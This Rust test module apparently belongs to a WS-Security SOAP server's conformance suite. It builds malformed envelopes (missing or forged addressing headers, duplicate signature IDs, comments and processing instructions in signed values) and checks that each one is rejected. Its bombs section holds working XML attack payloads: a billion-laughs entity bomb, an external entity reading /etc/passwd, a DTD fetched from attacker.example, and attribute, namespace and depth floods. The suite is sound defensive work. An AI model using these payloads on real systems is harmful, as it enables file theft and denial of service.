//! Envelopes and header blocks that are not what they should be, and XML that does harm.

use soap::security::{Cause, LIB_BAS};

use super::{Attack, check};
use crate::forge::{insert, replace, sign, swap, text};
use crate::messages::request;
use crate::pki::pki;

pub(super) fn run() {
    let control = request(&LIB_BAS);
    let mut attacks = Vec::new();
    addressing(&control, &mut attacks);
    ids(&control, &mut attacks);
    comments(&control, &mut attacks);
    bombs(&control, &mut attacks);
    check(&control, &attacks);
}

fn addressing(control: &str, attacks: &mut Vec<Attack>) {
    let key = pki().caller.key();
    let start = control.rfind("<ds:Signature ").expect("a signature");
    let mut with = |name: &str, message: String, cause| {
        attacks.push(Attack::new(name, sign(&message, &key), cause));
    };
    let without = |block: &str, id: &str| {
        let led = text(&control[start..], &format!("<ds:Reference URI=\"#{id}-")).to_owned();
        swap(&replace(control, block, ""), &led, "")
    };
    with(
        "no action",
        without("<wsa:Action ", "action"),
        Cause::MissingHeader,
    );
    with(
        "no message id",
        without("<wsa:MessageID ", "message"),
        Cause::MissingHeader,
    );
    with(
        "no framework",
        without("<sbf:Framework ", "framework"),
        Cause::MissingFramework,
    );
    let block = |start: &str, what: &str, with: &str| {
        let block = text(control, start);
        swap(control, block, &swap(block, what, with))
    };
    with(
        "an empty message id",
        block(
            "<wsa:MessageID ",
            text(control, "<wsa:MessageID ")
                .split(['<', '>'])
                .nth(2)
                .expect("a text"),
            " ",
        ),
        Cause::MissingHeader,
    );
    with(
        "a long message id",
        block("<wsa:MessageID ", "urn:", &"u".repeat(3000)),
        Cause::Structure,
    );
    for id in [
        "hello<",
        "urn:x\n  ok       All is well.<",
        "urn:\u{9b}31m<",
    ] {
        let named = text(control, "<wsa:MessageID ");
        let (tag, _) = named.split_once('>').expect("a tag");
        with(
            "a message id that is no IRI",
            swap(control, named, &format!("{tag}>{id}/wsa:MessageID>")),
            Cause::MessageId,
        );
    }
    with(
        "another address",
        block("<wsa:To ", "/Tally/1", "/Other/1"),
        Cause::To,
    );
    with(
        "an address with a slash",
        block("<wsa:To ", "/Tally/1", "/Tally/1/"),
        Cause::To,
    );
    with(
        "another version of the framework",
        block("<sbf:Framework ", "\"2.0\"", "\"1.0\""),
        Cause::FrameworkVersion,
    );
    with(
        "another profile",
        block("<sbf:Framework ", "profile:basic", "profile:simple"),
        Cause::FrameworkVersion,
    );
    with(
        "another framework",
        block(
            "<sbf:Framework ",
            "urn:liberty:sb:2006-08",
            "urn:liberty:sb",
        ),
        Cause::MissingFramework,
    );
    attacks.push(
        Attack::new(
            "an action that is not the transport's",
            control.to_owned() + " ",
            Cause::Action,
        )
        .with_action("urn:example:tally:1/Other"),
    );
    attacks.push(Attack::new(
        "another version of SOAP",
        control.replace(
            "http://schemas.xmlsoap.org/soap/envelope/",
            "http://www.w3.org/2003/05/soap-envelope",
        ),
        Cause::Envelope,
    ));
    attacks.push(Attack::new(
        "no body",
        replace(control, "<soap:Body ", ""),
        Cause::Envelope,
    ));
    attacks.push(Attack::new(
        "no envelope",
        text(control, "<soap:Body ").replace(
            "<soap:Body ",
            "<soap:Body xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\" ",
        ),
        Cause::Envelope,
    ));
    attacks.push(Attack::new(
        "the header after the body",
        {
            let header = text(control, "<soap:Header ").to_owned();
            insert(&swap(control, &header, ""), "</soap:Envelope>", &header)
        },
        Cause::Envelope,
    ));
    attacks.push(Attack::new(
        "text in the envelope",
        insert(control, "<soap:Header ", "text"),
        Cause::Envelope,
    ));
    attacks.push(Attack::new(
        "text in the security header",
        insert(control, "<wsu:Timestamp ", "text"),
        Cause::Structure,
    ));
}

fn ids(control: &str, attacks: &mut Vec<Attack>) {
    let unique = "00000001";
    let inside =
        |attribute: &str| insert(control, "</t:Week>", &format!("<t:X {attribute}></t:X>"));
    let wsu = "xmlns:u=\"http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd\"";
    let mut with = |name: &str, message: String| {
        attacks.push(Attack::new(name, message, Cause::DuplicateId));
    };
    with(
        "the body's id in the body",
        inside(&format!("{wsu} u:Id=\"body-{unique}\"")),
    );
    with(
        "the action's id in the body",
        inside(&format!("{wsu} u:Id=\"action-{unique}\"")),
    );
    with(
        "the body's id as xml:id",
        inside(&format!("xml:id=\"body-{unique}\"")),
    );
    with(
        "the body's id as Id",
        inside(&format!("Id=\"body-{unique}\"")),
    );
    with(
        "the body's id as ID",
        inside(&format!("ID=\"body-{unique}\"")),
    );
    with(
        "the body's id as id",
        inside(&format!("id=\"body-{unique}\"")),
    );
    with(
        "the token's id in the body",
        inside("ID=\"_00000000-0000-4000-8000-0000000000aa\""),
    );
    with(
        "the token's id as wsu:Id",
        inside(&format!(
            "{wsu} u:Id=\"_00000000-0000-4000-8000-0000000000aa\""
        )),
    );
    with(
        "two ids that no one refers to",
        inside("xml:id=\"a\"><t:Y xml:id=\"a\"></t:Y").replace("</t:Y>></t:X>", "</t:Y></t:X>"),
    );
    with(
        "a header block with the body's id",
        insert(
            control,
            "</soap:Header>",
            &format!("<x:H xmlns:x=\"urn:x\" {wsu} u:Id=\"body-{unique}\"/>"),
        ),
    );
}

fn comments(control: &str, attacks: &mut Vec<Attack>) {
    let key = pki().caller.key();
    let mut with = |name: &str, what: &str, changed: &str, cause| {
        attacks.push(Attack::new(name, swap(control, what, changed), cause));
    };
    // Canonicalisation leaves comments out: the digests are those of the message without them.
    with(
        "a comment in a value of the body",
        ">48<",
        ">4<!-- -->8<",
        Cause::Comment,
    );
    with(
        "a comment behind a value of the body",
        ">48<",
        ">48<!-- --><",
        Cause::Comment,
    );
    with(
        "a comment in the action",
        "tally:1/Tally<",
        "tally:1/Ta<!-- -->lly<",
        Cause::Comment,
    );
    with(
        "a comment in the address",
        "/Tally/1<",
        "/Tally/1<!-- -->/2<",
        Cause::Comment,
    );
    with(
        "a comment in the message id",
        "urn:uuid:",
        "urn:<!-- -->uuid:",
        Cause::Comment,
    );
    with(
        "a comment in the audience",
        "<saml2:Audience>http://",
        "<saml2:Audience>http:<!-- -->//",
        Cause::Comment,
    );
    with(
        "a comment in the name",
        "organizationIdentifier=NTRDK-",
        "organizationIdentifier=<!-- -->NTRDK-",
        Cause::Comment,
    );
    with(
        "a comment in a digest",
        "<ds:DigestValue>",
        "<ds:DigestValue><!-- -->",
        Cause::Comment,
    );
    with(
        "a comment in the security header",
        "<wsu:Timestamp ",
        "<!-- --><wsu:Timestamp ",
        Cause::Comment,
    );
    with(
        "an instruction in the body",
        ">48<",
        "><?x y?>48<",
        Cause::Instruction,
    );
    with(
        "an instruction before the body",
        "<soap:Body ",
        "<?x y?><soap:Body ",
        Cause::Instruction,
    );
    attacks.push(Attack::new(
        "an instruction that was signed",
        sign(&swap(control, ">48<", "><?x y?>48<"), &key),
        Cause::Instruction,
    ));
}

fn bombs(control: &str, attacks: &mut Vec<Attack>) {
    let mut with = |name: &str, message: String| {
        attacks.push(Attack::new(name, message, Cause::Malformed));
    };
    let lol: String = (1..10)
        .map(|level| {
            format!(
                "<!ENTITY l{level} \"{}\">",
                format!("&l{};", level - 1).repeat(10)
            )
        })
        .collect();
    with(
        "an entity bomb",
        swap(
            &format!("<!DOCTYPE x [<!ENTITY l0 \"lol\">{lol}]>{control}"),
            ">48<",
            ">&l9;<",
        ),
    );
    with(
        "an external entity",
        swap(
            &format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>{control}"),
            ">48<",
            ">&e;<",
        ),
    );
    with(
        "an external document type",
        format!("<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">{control}"),
    );
    with("an undeclared entity", swap(control, ">48<", ">&e;<"));
    let attributes: String = (0..64_000)
        .map(|number| format!(" a{number}=\"\""))
        .collect();
    with(
        "an attribute bomb",
        swap(control, "<t:Number>", &format!("<t:Number{attributes}>")),
    );
    let namespaces: String = (0..10_000)
        .map(|number| format!(" xmlns:a{number}=\"u\""))
        .collect();
    with(
        "a namespace bomb",
        swap(control, "<t:Number>", &format!("<t:Number{namespaces}>")),
    );
    with(
        "too deep",
        swap(
            control,
            "<t:Number>",
            &format!("{}<t:Number>", "<t:D>".repeat(10_000)),
        ),
    );
    with(
        "too long",
        swap(
            control,
            ">48<",
            &format!(">{}<", "4".repeat(2 * 1024 * 1024)),
        ),
    );
    with(
        "an attribute twice",
        swap(control, "<wsu:Timestamp ", "<wsu:Timestamp wsu:Id=\"x\" "),
    );
    with(
        "an undeclared prefix",
        swap(control, "<t:Number>", "<y:Number>"),
    );
    with("UTF-16", String::from("\u{0}") + control);
    with("two envelopes", control.repeat(2));
}
